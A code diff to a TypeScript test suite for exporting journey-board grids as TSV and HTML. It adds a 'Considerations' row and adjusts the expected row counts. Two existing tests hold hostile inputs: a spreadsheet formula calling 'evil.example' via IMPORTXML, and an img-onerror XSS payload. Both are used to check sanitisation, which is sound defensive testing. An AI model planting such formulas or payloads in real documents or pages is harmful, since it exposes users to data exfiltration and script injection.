@@ -26,6 +26,7 @@ describe('copy for boards', () => {
       'Owner',
       'Goal',
       'Friction',
+      'Considerations',
       'Emotion',
     ]);
     expect(grid[1]![3]).toBe('★ Price page; Checkout — payment');
@@ -37,7 +38,7 @@ describe('copy for boards', () => {
     const grid = boardGrid(data, journey);
     grid[1]![1] = 'Two\tparts\nand lines';
     const tsv = gridToTsv(grid);
-    expect(tsv.split('\n')).toHaveLength(7);
+    expect(tsv.split('\n')).toHaveLength(8);
     expect(tsv.split('\n').every((line) => line.split('\t').length === 6)).toBe(true);
     expect(tsv).toContain('Two parts and lines');
     grid[1]![2] = '=IMPORTXML("https://evil.example","//a")';
@@ -50,7 +51,7 @@ describe('copy for boards', () => {
     grid[1]![1] = '<img src=x onerror=alert(1)>';
     const { document } = parseHTML(`<body>${gridToHtml(grid)}</body>`);
     expect(document.querySelectorAll('img')).toHaveLength(0);
-    expect(document.querySelectorAll('tbody tr')).toHaveLength(6);
+    expect(document.querySelectorAll('tbody tr')).toHaveLength(7);
     expect(document.querySelector('tbody td:nth-child(2)')?.textContent).toBe('<img src=x onerror=alert(1)>');
   });
 });
